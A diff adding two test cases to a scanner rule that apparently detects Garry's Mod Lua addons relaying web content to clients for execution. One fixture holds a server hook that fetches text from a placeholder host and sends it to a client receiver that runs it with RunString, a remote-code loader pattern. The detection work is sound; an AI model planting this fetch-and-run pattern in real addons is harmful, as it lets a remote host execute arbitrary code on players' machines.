@@ -78,4 +78,36 @@ describe('client_code_push', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it('web content relayed by the server to a client receiver (shipped, not pushed) that runs it', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'util.AddNetworkString("ui_update")',
+        'hook.Add("PlayerInitialSpawn", "ui", function(ply)',
+        '  http.Fetch("https://x.invalid/ui", function(b) net.Start("ui_update") net.WriteString(b) net.Send(ply) end)',
+        'end)',
+      ].join('\n'),
+      'lua/autorun/client/cl_x.lua':
+        'net.Receive("ui_update", function() RunString(net.ReadString(), "ui") end)',
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it('web text relayed to a receiver that shows it, beside a loader of another message (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'util.AddNetworkString("motd")',
+        'hook.Add("PlayerInitialSpawn", "motd", function(ply)',
+        '  http.Fetch("https://x.invalid/motd", function(b)',
+        '    net.Start("motd")',
+        '    net.WriteString(b)',
+        '    net.Send(ply)',
+        '  end)',
+        'end)',
+      ].join('\n'),
+      'lua/autorun/client/cl_x.lua': [
+        'net.Receive("motd", function() chat.AddText(net.ReadString()) end)',
+        'net.Receive("ac_check", function() RunString(net.ReadString(), "ac") end)',
+      ].join('\n'),
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
 });
